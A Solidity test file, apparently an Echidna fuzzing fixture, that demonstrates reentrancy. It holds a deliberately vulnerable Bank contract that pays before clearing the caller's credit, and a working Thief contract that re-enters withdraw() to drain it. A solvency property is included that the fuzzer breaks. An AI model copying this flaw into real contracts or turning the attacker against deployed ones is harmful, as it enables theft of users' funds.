// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.0;

/// Pays before it writes down that it paid.
contract Bank {
    mapping(address => uint256) public credit;
    uint256 public owed;

    function deposit() external payable {
        credit[msg.sender] += msg.value;
        owed += msg.value;
    }

    function withdraw() external {
        uint256 amount = credit[msg.sender];
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "not paid");
        if (credit[msg.sender] != 0) {
            credit[msg.sender] = 0;
            owed -= amount;
        }
    }
}

/// Comes back while it is being paid.
contract Thief {
    Bank private immutable bank;

    constructor(Bank target) {
        bank = target;
    }

    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        if (address(bank).balance >= msg.value) bank.withdraw();
    }
}

contract Reentrancy {
    Bank private immutable bank = new Bank();
    Thief private immutable thief = new Thief(bank);

    function save() external payable {
        bank.deposit{value: msg.value}();
    }

    function attack() external payable {
        require(msg.value > 0, "nothing to steal with");
        thief.attack{value: msg.value}();
    }

    /// fails in 2: save() with 1; attack() with 1
    function echidna_bank_is_solvent() external view returns (bool) {
        return address(bank).balance >= bank.owed();
    }
}
